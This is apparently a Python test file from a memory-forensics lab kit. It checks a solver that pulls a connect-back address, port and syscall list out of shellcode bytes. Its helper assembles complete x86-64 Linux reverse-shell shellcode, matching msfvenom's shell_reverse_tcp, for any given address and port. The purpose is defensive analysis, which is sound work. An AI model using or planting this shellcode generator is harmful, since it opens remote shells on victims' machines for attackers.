"""Reading a stager's target out of its bytes: the shellcode is assembled here from its parts."""

from __future__ import annotations

import socket
import struct

from labkit.solvers.memory_shellcode import connect_target, system_calls


def _reverse_tcp(address: str, port: int) -> bytes:
    """The x86-64 connect-back shell that msfvenom's linux/x64/shell_reverse_tcp emits."""
    sockaddr = struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(address)
    return (
        bytes.fromhex("6a2958996a025f6a015e0f05")  # socket(AF_INET, SOCK_STREAM, 0)
        + bytes.fromhex("489748b9") + sockaddr  # xchg rdi, rax; movabs rcx, sockaddr_in
        + bytes.fromhex("514889e66a105a6a2a580f05")  # connect(fd, rsp, 16)
        + bytes.fromhex("6a035e48ffce6a21580f0575f6")  # dup2 loop over fds 2, 1, 0
        + bytes.fromhex("6a3b589948bb2f62696e2f736800534889e752574889e60f05")  # execve("/bin/sh")
    )  # fmt: skip


def test_the_sockaddr_in_gives_address_and_port_in_network_order() -> None:
    code = _reverse_tcp("203.0.113.7", 4444)

    target = connect_target(code)

    assert target is not None
    assert (target.address, target.port, target.offset) == ("203.0.113.7", 4444, 14)
    assert target.instruction_hex == "48 b9 02 00 11 5c cb 00 71 07"
    assert system_calls(code) == ["socket", "connect", "dup2", "execve"]


def test_the_first_64_bytes_malfind_shows_are_enough() -> None:
    shown = _reverse_tcp("91.215.155.80", 6667)[:64]

    target = connect_target(shown)

    assert target is not None and (target.address, target.port) == ("91.215.155.80", 6667)
    assert system_calls(shown) == ["socket", "connect", "dup2"]  # execve's syscall is past byte 64


def test_code_without_a_sockaddr_names_no_target() -> None:
    bind_shell_start = bytes.fromhex("6a2958996a025f6a015e0f05") + b"\x90" * 16
    assert connect_target(bind_shell_start) is None
    assert connect_target(b"\x48\xb9\x0a\x00" + b"\x00" * 6) is None  # AF_INET6 (10) is not read as IPv4
    assert system_calls(b"\x90\x90\x0f\x05") == []  # a syscall whose number was not pushed: unknown
